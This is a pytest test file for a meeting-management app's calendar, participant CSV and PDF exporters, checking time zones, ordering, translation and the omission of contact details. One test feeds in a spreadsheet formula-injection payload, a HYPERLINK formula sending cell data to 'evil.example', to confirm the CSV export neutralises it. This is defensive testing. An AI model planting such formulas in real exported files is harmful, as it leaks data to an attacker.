import csv as csv_module
import datetime as dt
import io

import icalendar
import pytest

from plenipo.meetings.exporters import calendar, participants_csv, participants_pdf
from plenipo.meetings.models import Meeting
from plenipo.meetings.services.delegations import decide_registration, register_delegation
from tests.factories import meetings as factories

pytestmark = pytest.mark.django_db


def test_calendar_carries_the_venue_time_zone():
    informal = Meeting.objects.get(start_not_before=dt.date(2017, 6, 29))
    cal = icalendar.Calendar.from_ical(calendar([informal], name="test"))
    [event] = cal.walk("VEVENT")
    start = event.decoded("dtstart")
    assert str(start.tzinfo) == "America/New_York"
    assert start.astimezone(dt.UTC) == dt.datetime(2017, 6, 29, 14, 0, tzinfo=dt.UTC)
    assert "dtend" not in event  # the end time is not known; it is not guessed
    assert [tz["tzid"] for tz in cal.walk("VTIMEZONE")] == ["America/New_York"]


def test_untimed_and_unsettled_meetings_in_a_calendar():
    untimed = Meeting.objects.get(start_not_before=dt.date(2017, 6, 16))
    tentative = Meeting.objects.get(status="tentative", start_not_before=dt.date(2017, 7, 10))
    cal = icalendar.Calendar.from_ical(calendar([untimed, tentative], name="test"))
    [event] = cal.walk("VEVENT")  # the tentative one has no settled day
    assert event.decoded("dtstart") == dt.date(2017, 6, 16)


def _approved_austria(focal_point):
    meeting = factories.meeting(language="en")
    delegation = factories.delegation(meeting)
    with_contacts = [
        {**person, "email": "contact@aut.example", "phone": "+43 1 000 0000"}
        for person in reversed(factories.THREE)
    ]
    register_delegation(
        delegation=delegation,
        participants=with_contacts,
        expected_version=delegation.version,
        by=focal_point,
        today=dt.date(2030, 3, 10),
    )
    decide_registration(delegation=delegation, approve=True, by=None)
    return meeting


def test_list_of_participants_csv_puts_heads_first(focal_point_state_a):
    meeting = _approved_austria(focal_point_state_a)
    csv = participants_csv(meeting).decode()
    rows = csv.splitlines()
    assert rows[0] == "category,delegation,role,name,title"
    assert rows[1] == "Member States,Austria,Head of delegation,Anna Berger,Ambassador"
    assert "contact@aut.example" not in csv  # contacts never leave the office
    assert "+43" not in csv


def test_a_name_typed_as_a_formula_is_written_as_text_in_the_csv(focal_point_state_a):
    meeting = factories.meeting(language="en")
    delegation = factories.delegation(meeting)
    people = [
        {"role": "head", "name": '=HYPERLINK("https://evil.example/?"&A1)', "title": "+1"},
        {"role": "adviser", "name": "@SUM(A1:A9)", "title": "-2"},
        {"role": "adviser", "name": "Anna-Maria Berger", "title": "Counsellor"},
    ]
    register_delegation(
        delegation=delegation,
        participants=people,
        expected_version=delegation.version,
        by=focal_point_state_a,
        today=dt.date(2030, 3, 10),
    )
    decide_registration(delegation=delegation, approve=True, by=None)
    rows = list(csv_module.reader(io.StringIO(participants_csv(meeting).decode())))[1:]
    assert [row[3:] for row in rows] == [
        ['\'=HYPERLINK("https://evil.example/?"&A1)', "'+1"],
        ["'@SUM(A1:A9)", "'-2"],
        ["Anna-Maria Berger", "Counsellor"],
    ]


def test_list_of_participants_pdf(focal_point_state_a):
    pypdf = pytest.importorskip("pypdf")
    try:
        import weasyprint  # noqa: F401
    except OSError as exc:  # Pango missing: `make system-deps`
        pytest.skip(f"WeasyPrint cannot load its system libraries: {exc}")
    meeting = _approved_austria(focal_point_state_a)
    text = pypdf.PdfReader(io.BytesIO(participants_pdf(meeting))).pages[0].extract_text()
    assert "List of participants" in text
    assert text.index("Austria") < text.index("Anna Berger") < text.index("Bernd Huber")
    assert "contact@aut.example" not in text


def test_list_of_participants_in_the_meetings_language(focal_point_state_a):
    meeting = _approved_austria(focal_point_state_a)
    meeting.language = "fr"
    meeting.save()
    rows = participants_csv(meeting).decode().splitlines()
    assert rows[1] == "États membres,Autriche,Chef de délégation,Anna Berger,Ambassador"
